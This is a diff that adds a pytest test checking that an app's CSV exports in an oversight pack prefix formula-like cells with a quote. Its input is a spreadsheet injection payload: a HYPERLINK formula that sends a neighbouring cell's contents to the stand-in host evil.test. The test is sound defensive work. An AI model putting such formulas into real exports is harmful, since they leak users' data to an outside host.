@@ -221,6 +221,48 @@ def test_csv_export_of_the_same_scope(app, org):
     assert any(r["person_pseudonym"].startswith("P-") for r in rows)
 
 
+def test_csv_export_writes_formulas_as_text(app, org):
+    """A title, a person's name or a region name that a spreadsheet would run as a formula is
+    written with a quote in front; numbers stay numbers."""
+    from app.actions.measure import MeasureFilter
+    from app.actions.models import Action
+    from app.auth.models import User
+    from app.taxonomy.models import Region
+
+    title = '=HYPERLINK("http://evil.test/?d="&B2,"Open")'
+    with app.app_context():
+        owner = db.session.scalar(select(User).where(User.email == "sup@x.test"))
+        owner.name = "@SUM(1)"
+        db.session.scalar(select(Region).where(Region.name == "North")).name = "+North"
+        db.session.add(
+            Action(
+                title=title,
+                change="x",
+                owner_id=owner.id,
+                due_date=LAST_WEEK,
+                strength="weak",
+                window_start=LAST_WEEK,
+                window_end=LAST_WEEK + timedelta(days=28),
+                measure=MeasureFilter(category_ids=(1,)).to_json(),
+                target_reduction_percent=50,
+                baseline_count=-1,
+                created_by_id=owner.id,
+            )
+        )
+        db.session.commit()
+    response = as_user(app, "manager@x.test").get(f"/packs/oversight.zip?{PERIOD}")
+    archive = zipfile.ZipFile(io.BytesIO(response.data))
+    (action,) = csv.DictReader(io.StringIO(archive.read("actions.csv").decode()))
+    assert action["title"] == "'" + title
+    assert action["owner"] == "'@SUM(1)"
+    assert action["baseline_count"] == "-1" and action["target_reduction_percent"] == "50.0"
+    reports = list(csv.DictReader(io.StringIO(archive.read("reports.csv").decode())))
+    assert reports and {r["region"] for r in reports} == {"'+North"}
+    for name in archive.namelist():
+        cells = [cell for row in csv.reader(io.StringIO(archive.read(name).decode())) for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], name
+
+
 def test_a_pack_drawn_in_the_background_is_collected_by_whoever_asked(app, org):
     from app.packs.models import PackRender
 
